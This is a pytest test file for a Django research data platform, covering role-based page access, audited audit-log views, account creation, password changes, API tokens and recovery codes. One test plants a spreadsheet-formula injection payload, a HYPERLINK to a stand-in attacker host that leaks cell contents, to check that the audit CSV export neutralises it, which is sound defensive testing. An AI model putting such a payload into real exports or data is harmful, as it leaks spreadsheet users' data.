"""Every page a signed-in person of each role needs renders, and the pages' own rules:
audited audit views, a spreadsheet-safe CSV export, account creation, own account."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import dataclass

import pytest
from django.conf import settings
from django.urls import reverse

from sde.audit.events import EventType
from sde.audit.models import AuditEvent
from sde.identity.models import ApiToken, Organisation, User
from sde.identity.roles import Role
from tests import scenarios
from tests.events import events_since as _events_since
from tests.events import mark as _mark

pytestmark = pytest.mark.django_db

R = Role


@pytest.fixture(autouse=True)
def _fast_password_hashing(settings):
    # Nobody here signs in through the sign-in page; argon2 would only slow things down.
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]


# --- every page renders for the roles that need it -------------------------------------
@dataclass(frozen=True)
class World:
    me: User
    other: User
    organisation: Organisation
    sequence: int


def _world(*roles: Role) -> World:
    organisation = scenarios.organisation(Organisation.Kind.GP_PRACTICE)
    other = scenarios.person(R.RESEARCHER, accredited=True)
    me = scenarios.person(*roles, accredited=True)
    return World(me, other, organisation, _mark())


PAGES_FOR_EVERYONE: dict[str, Callable[[World], str]] = {
    "dashboard": lambda w: reverse("dashboard"),
    "account": lambda w: reverse("account"),
    "password-change": lambda w: reverse("password-change"),
    "people-list": lambda w: reverse("people-list"),
    "own-person-detail": lambda w: reverse("person-detail", args=[w.me.pk]),
    "organisation-list": lambda w: reverse("organisation-list"),
    "organisation-detail": lambda w: reverse("organisation-detail", args=[w.organisation.pk]),
}
PAGES_FOR_ADMINISTRATORS: dict[str, Callable[[World], str]] = {
    "person-create": lambda w: reverse("person-create"),
    "other-person-detail": lambda w: reverse("person-detail", args=[w.other.pk]),
    "people-list-expiring": lambda w: reverse("people-list") + "?accreditation=expiring&q=p",
}
PAGES_FOR_IG: dict[str, Callable[[World], str]] = {
    "audit-log": lambda w: reverse("audit-log"),
    "audit-log-filtered": lambda w: reverse("audit-log") + f"?person={w.other.pk}",
    "audit-event": lambda w: reverse("audit-event", args=[w.sequence]),
    "other-person-detail": lambda w: reverse("person-detail", args=[w.other.pk]),
    "people-list": lambda w: reverse("people-list"),
}
CASES = (
    [(role, page, PAGES_FOR_EVERYONE[page]) for role in Role for page in PAGES_FOR_EVERYONE]
    + [(R.ADMINISTRATOR, page, url) for page, url in PAGES_FOR_ADMINISTRATORS.items()]
    + [(R.IG_OFFICER, page, url) for page, url in PAGES_FOR_IG.items()]
)


@pytest.mark.parametrize(
    ("role", "page", "url"), CASES, ids=[f"{role.value}-{page}" for role, page, _ in CASES]
)
def test_a_page_renders_for_a_role_that_needs_it(client_for, role, page, url):
    world = _world(role)

    response = client_for(world.me).get(url(world))

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/html")
    assert response.content.count(b"<h1") == 1
    assert world.me.display_name.encode() in response.content  # signed in as themselves


def test_the_dashboard_names_the_persons_roles(client_for):
    person = scenarios.person(R.OUTPUT_CHECKER, R.CLINICIAN)

    response = client_for(person).get(reverse("dashboard"))

    assert R.OUTPUT_CHECKER.label.encode() in response.content
    assert R.CLINICIAN.label.encode() in response.content


def test_home_sends_a_signed_in_person_to_the_dashboard(client_for):
    response = client_for(scenarios.person(R.RESEARCHER)).get(reverse("home"))

    assert response.status_code == 302
    assert response.url == reverse("dashboard")


def test_an_unknown_page_is_a_404(client_for):
    response = client_for(scenarios.person(R.RESEARCHER)).get("/no/such/page/")

    assert response.status_code == 404


# --- the audit pages -------------------------------------------------------------------
@pytest.mark.parametrize("debug", [True, False], ids=["debug", "production"])
def test_a_page_you_may_not_see_is_our_404_page_even_in_debug(client_for, settings, debug):
    """Django's debug 404 page lists every URL pattern; demo mode runs with DEBUG on."""
    settings.DEBUG = debug
    researcher = scenarios.person(Role.RESEARCHER)

    response = client_for(researcher).get(reverse("optout-register"))

    assert response.status_code == 404
    assert next(t.name for t in response.templates) == "errors/404.html"
    assert "Page not found" in response.content.decode()
    assert "URLconf" not in response.content.decode()


@pytest.mark.parametrize("debug", [True, False], ids=["debug", "production"])
@pytest.mark.parametrize("signed_in", [True, False], ids=["signed-in", "anonymous"])
def test_an_unknown_address_is_our_404_page_even_in_debug(client, client_for, settings, debug,
                                                         signed_in):  # fmt: skip
    settings.DEBUG = debug
    browser = client_for(scenarios.person(Role.RESEARCHER)) if signed_in else client

    response = browser.get("/no-such-page/at-all/")

    assert response.status_code == 404
    assert "errors/404.html" in [t.name for t in response.templates]
    assert "URLconf" not in response.content.decode()
    assert "no-such-page" not in response.content.decode()


def test_a_missing_slash_still_redirects(client):
    response = client.get("/register")

    assert (response.status_code, response["Location"]) == (301, "/register/")


def test_opening_the_audit_page_is_recorded(client_for):
    ig = scenarios.person(R.IG_OFFICER)
    mark = _mark()

    response = client_for(ig).get(reverse("audit-log"))

    assert response.status_code == 200
    (event,) = _events_since(mark)
    assert event.event_type == EventType.AUDIT_LOG_VIEWED
    assert event.actor_id == ig.pk
    assert event.data == {"filters": {}}
    assert response.context["rows"][0][0].sequence == event.sequence


def test_a_filtered_audit_search_records_its_filters(client_for):
    ig = scenarios.person(R.IG_OFFICER)
    person = scenarios.person(R.RESEARCHER)
    mark = _mark()

    response = client_for(ig).get(
        reverse("audit-log"), {"person": person.pk, "date_from": "2024-01-01"}
    )

    assert response.status_code == 200
    (event,) = _events_since(mark)
    assert event.data == {
        "filters": {"person_id": person.pk, "date_from": "2024-01-01T00:00:00+00:00"}
    }
    rows = [e for e, _ in response.context["rows"]]
    assert rows
    assert all(str(person.pk) in (e.target_id, str(e.actor_id)) for e in rows)


def test_an_invalid_audit_search_shows_the_error_and_records_nothing(client_for):
    ig = scenarios.person(R.IG_OFFICER)
    mark = _mark()

    response = client_for(ig).get(
        reverse("audit-log"), {"date_from": "2025-02-01", "date_to": "2025-01-01"}
    )

    assert response.status_code == 200
    assert response.context["form"].non_field_errors() == ["The end date is before the start date."]
    assert _mark() == mark


def test_viewing_one_audit_event_is_recorded_and_shows_it_verified(client_for):
    ig = scenarios.person(R.IG_OFFICER)
    sequence = _mark()

    response = client_for(ig).get(reverse("audit-event", args=[sequence]))

    assert response.status_code == 200
    assert response.context["event"].sequence == sequence
    assert response.context["integrity"].ok
    (event,) = _events_since(sequence)
    assert event.data == {"sequence": sequence}


def test_a_missing_audit_event_is_a_404(client_for):
    ig = scenarios.person(R.IG_OFFICER)

    response = client_for(ig).get(reverse("audit-event", args=[_mark() + 1000]))

    assert response.status_code == 404


def _export(client) -> tuple[object, list[dict[str, str]]]:
    response = client.get(reverse("audit-export"))
    text = b"".join(response.streaming_content).decode("utf-8")
    return response, list(csv.DictReader(io.StringIO(text)))


@pytest.mark.parametrize("prefix", ["=", "+", "-", "@"])
def test_the_audit_export_neutralises_spreadsheet_formulas(client_for, prefix):
    name = f'{prefix}HYPERLINK("https://evil.example/?"&A1,"Click")'
    organisation = scenarios.organisation(name=name)
    ig = scenarios.person(R.IG_OFFICER)

    response, rows = _export(client_for(ig))

    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="sde-audit-')
    (row,) = [
        r
        for r in rows
        if r["event_type"] == EventType.ORGANISATION_CREATED
        and r["target_id"] == str(organisation.pk)
    ]
    assert row["target_display"] == "'" + name
    assert not [value for r in rows for value in r.values() if value.startswith(("=", "+", "@"))]


def test_the_audit_export_has_every_event_and_is_recorded(client_for):
    ig = scenarios.person(R.IG_OFFICER)
    before = AuditEvent.objects.count()
    mark = _mark()

    _, rows = _export(client_for(ig))

    (event,) = _events_since(mark)
    assert event.event_type == EventType.AUDIT_LOG_EXPORTED
    assert event.data == {"filters": {}, "rows": before}
    # Exactly the rows the event counts: the log up to the export, not the export itself.
    assert [int(row["sequence"]) for row in rows] == list(range(mark, 0, -1))
    assert list(rows[0]) == [
        "sequence",
        "occurred_at",
        "event_type",
        "actor_id",
        "actor_display",
        "target_type",
        "target_id",
        "target_display",
        "project_id",
        "data",
        "entry_hash",
        "chain_hash",
    ]


# --- accounts through the pages --------------------------------------------------------
ACCOUNT = {
    "username": "new.analyst",
    "first_name": "Nia",
    "last_name": "Analyst",
    "email": "nia@example.invalid",
}


def test_an_administrator_creates_an_account_through_the_page(client_for):
    admin = scenarios.person(R.ADMINISTRATOR)
    mark = _mark()

    response = client_for(admin).post(
        reverse("person-create"), {**ACCOUNT, "password": "tidal-orchard-lantern-7"}
    )

    created = User.objects.get(username="new.analyst")
    assert response.status_code == 302
    assert response.url == reverse("person-detail", args=[created.pk])
    assert created.check_password("tidal-orchard-lantern-7")
    assert created.is_active
    assert [(e.event_type, e.actor_id) for e in _events_since(mark)] == [
        (EventType.ACCOUNT_CREATED, admin.pk)
    ]


@pytest.mark.parametrize(
    ("password", "message"),
    [
        ("short", "This password is too short. It must contain at least 12 characters."),
        ("password1234", "This password is too common."),
        ("839201746352", "This password is entirely numeric."),
        ("new.analyst.x", "The password is too similar to the username."),
    ],
    ids=["short", "common", "numeric", "like-username"],
)
def test_a_weak_password_is_a_form_error_and_creates_no_account(client_for, password, message):
    admin = scenarios.person(R.ADMINISTRATOR)
    mark = _mark()

    response = client_for(admin).post(reverse("person-create"), {**ACCOUNT, "password": password})

    assert response.status_code == 200
    assert message in response.context["form"].errors["password"]
    assert not User.objects.filter(username="new.analyst").exists()
    assert _mark() == mark


def test_a_taken_username_is_a_form_error(client_for):
    admin = scenarios.person(R.ADMINISTRATOR)
    scenarios.person(username="New.Analyst")

    response = client_for(admin).post(
        reverse("person-create"), {**ACCOUNT, "password": "tidal-orchard-lantern-7"}
    )

    assert response.status_code == 200
    assert response.context["form"].errors["username"] == ["That username is taken."]
    assert User.objects.filter(username__iexact="new.analyst").count() == 1


def test_only_administrators_open_the_account_creation_page(client_for):
    ig = scenarios.person(R.IG_OFFICER)

    response = client_for(ig).get(reverse("person-create"))

    assert response.status_code == 403


# --- a person's own account ------------------------------------------------------------
OLD_PASSWORD = "granite-willow-harbour-3"
NEW_PASSWORD = "copper-heron-valley-88"


def test_changing_ones_password_keeps_the_session_and_is_recorded(client_for):
    person = scenarios.person(R.RESEARCHER, password=OLD_PASSWORD)
    client = client_for(person)
    mark = _mark()

    response = client.post(
        reverse("password-change"),
        {
            "old_password": OLD_PASSWORD,
            "new_password1": NEW_PASSWORD,
            "new_password2": NEW_PASSWORD,
        },
    )

    assert response.status_code == 302
    assert response.url == reverse("account")
    assert User.objects.get(pk=person.pk).check_password(NEW_PASSWORD)
    assert [e.event_type for e in _events_since(mark)] == [EventType.PASSWORD_CHANGED]
    assert client.get(reverse("dashboard")).status_code == 200


@pytest.mark.parametrize(
    ("old", "new", "field"),
    [
        ("not-my-password-at-all", NEW_PASSWORD, "old_password"),
        (OLD_PASSWORD, "short", "new_password2"),
    ],
    ids=["wrong-old-password", "weak-new-password"],
)
def test_a_refused_password_change_changes_nothing(client_for, old, new, field):
    person = scenarios.person(R.RESEARCHER, password=OLD_PASSWORD)
    mark = _mark()

    response = client_for(person).post(
        reverse("password-change"),
        {"old_password": old, "new_password1": new, "new_password2": new},
    )

    assert response.status_code == 200
    assert field in response.context["form"].errors
    assert User.objects.get(pk=person.pk).check_password(OLD_PASSWORD)
    assert _mark() == mark


def test_an_api_token_key_is_shown_once_and_only_its_hash_is_kept(client_for):
    person = scenarios.person(R.RESEARCHER)
    client = client_for(person)

    created = client.post(reverse("token-create"), {"name": "R scripts"})
    first = client.get(reverse("account"))
    second = client.get(reverse("account"))

    key = first.context["new_key"]
    token = ApiToken.objects.get(user=person)
    assert created.status_code == 302
    assert key.startswith("sde_")
    assert key.encode() in first.content
    assert second.context["new_key"] is None
    assert key.encode() not in second.content
    assert token.key_hash != key
    assert key not in {token.key_hash, token.prefix, token.name}


def test_a_person_revokes_their_own_token_but_not_anothers(client_for):
    person = scenarios.person(R.RESEARCHER)
    other = scenarios.person(R.ADMINISTRATOR)
    client = client_for(person)
    client.post(reverse("token-create"), {"name": "mine"})
    client_for(other).post(reverse("token-create"), {"name": "theirs"})
    mine = ApiToken.objects.get(user=person)
    theirs = ApiToken.objects.get(user=other)

    revoked = client.post(reverse("token-revoke", args=[mine.pk]))
    refused = client.post(reverse("token-revoke", args=[theirs.pk]))

    assert revoked.status_code == 302
    assert refused.status_code == 404
    mine.refresh_from_db()
    theirs.refresh_from_db()
    assert mine.revoked_at is not None
    assert theirs.revoked_at is None


def test_regenerating_recovery_codes_shows_the_new_codes_once(client_for):
    person = scenarios.person(R.RESEARCHER)
    client = client_for(person)
    mark = _mark()

    response = client.post(reverse("recovery-codes-regenerate"), follow=True)

    assert response.status_code == 200
    assert len(response.context["codes"]) == settings.SDE_RECOVERY_CODE_COUNT
    assert [e.event_type for e in _events_since(mark)] == [EventType.MFA_RECOVERY_CODES_ISSUED]
    assert client.get(reverse("mfa-recovery-codes")).url == reverse("account")
